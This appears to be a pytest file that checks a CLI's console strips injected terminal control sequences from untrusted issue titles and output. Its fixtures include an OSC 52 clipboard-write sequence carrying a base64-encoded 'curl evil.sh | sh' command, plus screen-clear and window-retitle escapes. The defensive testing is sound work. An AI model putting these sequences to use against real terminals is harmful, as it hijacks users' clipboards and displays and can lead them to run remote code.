"""Untrusted text (issue titles, test output, model answers, errors) never reaches the terminal
with a control sequence in it: Rich passes ESC through, our console does not."""

from __future__ import annotations

import io
from pathlib import Path

import pytest
from rich.markup import escape
from rich.table import Table
from rich.text import Text

from tamma.cli.term import SafeConsole, strip_controls
from tamma.providers.scripted import DEMO_TRANSCRIPT
from tests.cli.conftest import tamma

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # OSC 52: write the user's clipboard
CLEAR = "\x1b[2J\x1b[H"  # clear the screen, cursor home
TITLE = "\x1b]0;owned\x07"  # retitle the window
HOSTILE = f"Fix off-by-one in paginate(){CLIPBOARD}{CLEAR}{TITLE}\x9b31m\x07 now"


def test_strip_controls_removes_whole_sequences_and_keeps_text() -> None:
    assert strip_controls(HOSTILE) == "Fix off-by-one in paginate() now"
    assert strip_controls("tab\tand\nnewline stay") == "tab\tand\nnewline stay"
    assert strip_controls("naïve ünïcode ✔") == "naïve ünïcode ✔"


@pytest.mark.parametrize(
    "renderable",
    [HOSTILE, Text(HOSTILE, style="bold"), "[bold]" + escape(HOSTILE) + "[/]"],
    ids=["plain", "text", "markup"],
)
def test_console_output_keeps_styles_and_drops_injected_sequences(renderable: object) -> None:
    out = io.StringIO()
    console = SafeConsole(file=out, force_terminal=True, color_system="standard", width=120)
    table = Table("what", "detail")
    table.add_row("issue", renderable)  # type: ignore[arg-type]
    console.print(table)
    console.print(renderable)
    text = out.getvalue()
    for injected in ("\x1b]", "\x1b[2J", "\x1b[H", "\x07", "\x9b"):
        assert injected not in text, repr(text)
    assert "Fix off-by-one in paginate() now" in text
    if not isinstance(renderable, str) or renderable.startswith("[bold]"):
        assert "\x1b[1m" in text  # Rich's own styling survives


@pytest.mark.slow
def test_a_hostile_issue_title_reaches_no_terminal(cli_env: dict[str, str], repo: Path) -> None:
    created = tamma(cli_env, "issue", "create", HOSTILE, "--body", f"body {CLIPBOARD}", cwd=repo)
    assert created.returncode == 0, created.stderr
    for args in (
        ("start", "--issue", "1", "--transcript", str(DEMO_TRANSCRIPT)),
        ("status", "1"),
        ("list",),
    ):
        run = tamma(cli_env, *args, cwd=repo)
        assert run.returncode == 0, run.stdout + run.stderr
        for stream in (run.stdout, run.stderr):
            assert "\x1b" not in stream and "\x07" not in stream and "\x9b" not in stream, (args, stream[-2000:])
    assert "Fix off-by-one in paginate() now" in tamma(cli_env, "status", "1", cwd=repo).stdout
